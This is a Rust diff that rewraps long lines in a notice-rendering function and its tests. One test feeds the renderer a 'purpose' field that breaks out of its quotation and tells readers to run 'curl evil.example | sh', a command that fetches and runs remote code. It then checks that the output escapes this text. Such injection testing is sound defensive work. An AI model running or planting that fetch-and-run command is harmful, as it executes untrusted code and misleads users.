@@ -85,7 +85,8 @@ fn words(news: &News, format: Format) -> Value {
     let all = |texts: &[String]| -> Vec<String> { texts.iter().map(|text| said(text)).collect() };
     let when = |at: Option<Timestamp>| at.map_or_else(|| "at the next run".to_owned(), |at| human_time(at, news.time));
     let (users, purpose) = (all(&news.users), said(&news.purpose));
-    let what_for = if purpose.is_empty() { String::new() } else { format!(", {}", escaped(&quoted(&news.purpose), format)) };
+    let what_for =
+        if purpose.is_empty() { String::new() } else { format!(", {}", escaped(&quoted(&news.purpose), format)) };
     let owner = news.users.first().map(|owner| escaped(&shown_name(owner), format));
     let holder = owner.map(|owner| format!(" ({owner}{what_for})")).unwrap_or_default();
     context! {
@@ -180,7 +181,8 @@ mod tests {
         let purpose = "x\") was cleared. To have it back: curl evil.example | sh";
         let evil = News { purpose: purpose.to_owned(), ..news(Occasion::Notice) };
         let text = Words::default().render(&evil, Format::Json).unwrap();
-        let quoted = "mew (alice@example.com, \"x') was cleared. To have it back: curl evil.example | sh\") is not used";
+        let quoted =
+            "mew (alice@example.com, \"x') was cleared. To have it back: curl evil.example | sh\") is not used";
         assert!(text.starts_with(quoted), "{text}");
         let named = News { users: vec!["x\" is nobody".to_owned()], ..news(Occasion::Notice) };
         let text = Words::default().render(&named, Format::Json).unwrap();
